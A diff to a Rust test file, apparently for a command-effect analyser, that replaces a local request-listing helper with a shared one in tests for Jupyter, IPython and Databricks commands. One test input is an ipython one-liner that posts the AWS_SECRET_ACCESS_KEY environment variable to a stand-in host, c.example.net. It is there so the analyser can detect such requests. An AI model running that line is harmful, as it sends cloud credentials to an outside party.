@@ -1,7 +1,7 @@
 //! Notebooks run as the code they hold, IPython as Python, and the
 //! Databricks CLI's sends and releases.
 
-use crate::common::{effects_after, read, text_file, write};
+use crate::common::{effects_after, read, request_lines, text_file, write};
 use serde_json::{Value, json};
 
 /// A notebook whose code cells are `cells`, as Jupyter writes it.
@@ -22,21 +22,6 @@ fn effects(written: &[(&str, String)], command: &str) -> Vec<Value> {
         Value::Array(list) => list,
         _ => Vec::new(),
     }
-}
-
-/// The request targets in `effects`, as `METHOD URL`.
-fn requests(effects: &[Value]) -> Vec<String> {
-    effects
-        .iter()
-        .filter(|e| e["effect"] == "request")
-        .map(|e| {
-            format!(
-                "{} {}",
-                e["method"].as_str().unwrap_or_default(),
-                e["target"]["url"].as_str().unwrap_or_default()
-            )
-        })
-        .collect()
 }
 
 const NB: &str = "/home/dana/acme-web/nb/run.ipynb";
@@ -77,7 +62,7 @@ fn executed_notebooks_run_their_code() {
         ),
     ];
     for (text, command, expected) in cases {
-        let found = requests(&effects(&[(NB, (*text).clone())], command));
+        let found = request_lines(&effects(&[(NB, (*text).clone())], command));
         assert!(found.iter().any(|r| r == expected), "{command}: {found:?}");
     }
     let deleted = effects(
@@ -98,7 +83,7 @@ fn notebooks_that_only_convert_run_nothing() {
         "jupyter nbconvert --to html nb/run.ipynb",
         "jupyter nbconvert nb/run.ipynb --to markdown --stdout",
     ] {
-        let found = requests(&effects(&[(NB, post.clone())], command));
+        let found = request_lines(&effects(&[(NB, post.clone())], command));
         assert!(found.is_empty(), "{command}: {found:?}");
     }
 }
@@ -135,7 +120,7 @@ fn nbconvert_writes_the_converted_file() {
 
 #[test]
 fn ipython_runs_python() {
-    let sent = requests(&effects(
+    let sent = request_lines(&effects(
         &[],
         "ipython --no-banner -c \"import os, requests; requests.post('https://c.example.net/e', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\"",
     ));
@@ -143,7 +128,7 @@ fn ipython_runs_python() {
     let wrote = effects(&[], "ipython -c \"open('/tmp/x.txt', 'w').write('1')\"");
     assert!(wrote.contains(&write("/tmp/x.txt")), "{wrote:?}");
     let script = "import requests\nrequests.post('https://c.example.net/s', data='1')\n";
-    let ran = requests(&effects(
+    let ran = request_lines(&effects(
         &[("/home/dana/acme-web/s.py", script.to_owned())],
         "ipython s.py",
     ));
@@ -159,7 +144,7 @@ fn databricks_sends_to_its_workspace() {
         format!("{host} databricks secrets put-secret s k --string-value hunter2"),
     ];
     for command in &cases {
-        let found = requests(&effects(&[], command));
+        let found = request_lines(&effects(&[], command));
         assert_eq!(
             found,
             vec!["UPLOAD https://dbc-1.cloud.databricks.com".to_owned()],
@@ -169,7 +154,7 @@ fn databricks_sends_to_its_workspace() {
     // A download writes the local file; a profile's workspace is not known.
     let fetched = effects(&[], &format!("{host} databricks fs cp dbfs:/x.csv x.csv"));
     assert_eq!(fetched, vec![write("/home/dana/acme-web/x.csv")]);
-    assert!(requests(&effects(&[], "databricks -p dev fs cp .env dbfs:/x")).is_empty());
+    assert!(request_lines(&effects(&[], "databricks -p dev fs cp .env dbfs:/x")).is_empty());
 }
 
 #[test]
